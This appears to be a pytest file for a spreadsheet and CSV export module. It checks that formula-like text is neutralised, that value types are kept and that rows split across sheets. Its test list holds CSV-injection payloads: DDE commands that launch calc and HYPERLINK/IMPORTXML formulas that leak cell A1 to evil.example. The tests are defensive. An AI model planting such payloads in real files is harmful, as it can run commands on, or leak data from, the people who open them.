"""Tables for table programs, read back by another library: types, sheets, and nothing that is a formula."""

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, time, timedelta, timezone
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape

from firmly.model import OrgKind
from firmly.web.csv_file import csv_file, csv_lines
from firmly.web.xlsx_file import ROWS_PER_SHEET, write_xlsx, xlsx_file

NOON = datetime(2026, 3, 31, 11, 30, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "https://evil.example",
    "mailto:x@evil.example",
    "internal:Sheet1!A1",
)
"""Source: OWASP, CSV Injection; and what table programs make links of."""


def read_back(rows: Sequence[Sequence[object]], columns: Sequence[str] = ("a", "b"), **given: Any) -> Workbook:
    file = io.BytesIO()
    write_xlsx(file, columns, rows, **given)
    return load_workbook(file)


def values(book: Workbook) -> list[list[tuple[Any, ...]]]:
    return [list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_or_a_link_stays_text(text: str) -> None:
    book = read_back([(text, "x")])
    cell = book.worksheets[0]["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    assert cell.quotePrefix == (text[0] not in "{hmi")
    file = io.BytesIO()
    write_xlsx(file, ("a",), [(text,)])
    with zipfile.ZipFile(file) as parts:
        for name in parts.namelist():
            assert not re.search(rb"<f[ >]|hyperlink", parts.read(name)), name


@pytest.mark.parametrize("text", FORMULAS)
def test_text_in_a_csv_is_no_formula_either(text: str) -> None:
    (_, row) = csv.reader(io.StringIO("".join(csv_lines(("a", "=b"), [(text, -5)])), newline=""))
    is_formula = text[0] in "=+-@\t\r\n＝＋－＠"
    assert row == [f"'{text}" if is_formula else text, "-5"]


def test_csv_says_each_kind_of_value_plainly() -> None:
    rows = [(None, 3, -2.5, NOON, NOON.date(), 'He said "a, b"\nand left'), ("ä", True, OrgKind.BUSINESS, "", "'", 0)]
    lines = "".join(csv_lines(("one", "=two", "a,b", "d", "e", "f"), rows))
    assert lines == (
        'one,\'=two,"a,b",d,e,f\r\n'
        ',3,-2.5,2026-03-31T11:30Z,2026-03-31,"He said ""a, b""\nand left"\r\n'
        "ä,True,business,,',0\r\n"
    )


def test_values_keep_their_types() -> None:
    helsinki = NOON.astimezone(timezone(timedelta(hours=3)))
    row = (
        1,
        -2.5,
        True,
        None,
        "",
        "007",
        NOON,
        helsinki,
        date(2026, 3, 31),
        OrgKind.BUSINESS,
        10**15 - 1,
        2**63,
        1e300,
    )
    book = read_back([row], [f"c{number}" for number in range(len(row))])
    found = book.worksheets[0][2]
    assert [cell.value for cell in found] == [
        1,
        -2.5,
        True,
        None,
        None,
        "007",
        NOON.replace(tzinfo=None),
        NOON.replace(tzinfo=None),
        datetime.combine(NOON.date(), time()),
        "business",
        10**15 - 1,
        str(2**63),
        1e300,
    ]
    assert [found[index].number_format for index in (6, 8)] == ["yyyy-mm-dd hh:mm", "yyyy-mm-dd"]


@pytest.mark.parametrize("odd", [float("nan"), float("inf"), date(1850, 1, 1)])
def test_what_a_cell_cannot_hold_is_text(odd: object) -> None:
    assert values(read_back([(odd, 1)])) == [[("a", "b"), (str(odd), 1)]]


def test_text_is_any_unicode_and_never_breaks_the_file() -> None:
    texts = (
        "Ünïcödé 日本 🦩 \u202e",
        "a\x00b\x08c\x1fd",
        "\ufffe\uffff\ud800",
        "line\nbreak",
        "_x0041_",
        "<b>&amp;'\"",
    )
    ((_, *rows),) = values(read_back([(text, None) for text in texts]))
    said = [unescape(row[0]) for row in rows]
    assert said[0] == texts[0]
    assert said[1] == "a\ufffdb\ufffdc\ufffdd"
    assert said[2] == "\ufffd\ufffd\ufffd"
    assert said[3:] == list(texts[3:])


def test_text_longer_than_a_cell_is_cut_and_not_lost() -> None:
    ((_, row),) = values(read_back([("x" * 40_000, None)]))
    assert row[0] == "x" * 32_767


@pytest.mark.parametrize("count", [0, 1, 8, 9, 10, 18, 25])
def test_rows_beyond_a_sheet_go_on_on_the_next_under_the_same_head(count: int) -> None:
    book = read_back([(number, "x") for number in range(count)], rows_per_sheet=10)
    sheets = values(book)
    assert len(sheets) == max(1, -(-count // 9))
    assert {sheet[0] for sheet in sheets} == {("a", "b")}
    assert [row for sheet in sheets for row in sheet[1:]] == [(number, "x") for number in range(count)]
    assert {sheet.freeze_panes for sheet in book.worksheets} == {"A2"}


def test_a_sheet_holds_as_many_rows_as_programs_take() -> None:
    assert ROWS_PER_SHEET == 2**20


def test_columns_are_as_wide_as_their_text_within_reason() -> None:
    sheet = read_back([("x" * 30, "y" * 500)], ("a", "b")).worksheets[0]
    assert [round(sheet.column_dimensions[name].width) for name in "AB"] == [33, 61]


def test_rows_are_read_one_after_the_other_and_never_kept() -> None:
    """Many rows cost hardly more memory than few."""
    import tracemalloc

    def rows(count: int) -> Iterator[tuple[object, ...]]:
        return ((f"text {number}", number) for number in range(count))

    def cost(count: int) -> int:
        with tempfile.TemporaryFile() as file:
            tracemalloc.start()
            write_xlsx(file, ("a", "b"), rows(count))
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return peak

    cost(10)
    assert cost(40_000) < cost(2_000) + 500_000


@pytest.mark.anyio
async def test_answer_says_its_length_and_its_name() -> None:
    answer = xlsx_file("leads.xlsx", ("a", "b"), [(1, "=2")])
    body = b"".join([bytes(piece) if not isinstance(piece, str) else b"" async for piece in answer.body_iterator])
    assert answer.headers["content-length"] == str(len(body))
    assert answer.headers["content-disposition"] == 'attachment; filename="leads.xlsx"'
    assert values(load_workbook(io.BytesIO(body))) == [[("a", "b"), (1, "=2")]]
    assert csv_file("x.csv", (), ()).headers["content-type"] == "text/csv; charset=utf-8"


def test_failure_while_rows_are_read_comes_before_the_answer() -> None:
    def broken() -> Iterator[tuple[object, ...]]:
        yield 1, 2
        raise RuntimeError("away")

    with pytest.raises(RuntimeError, match="away"):
        xlsx_file("leads.xlsx", ("a", "b"), broken())
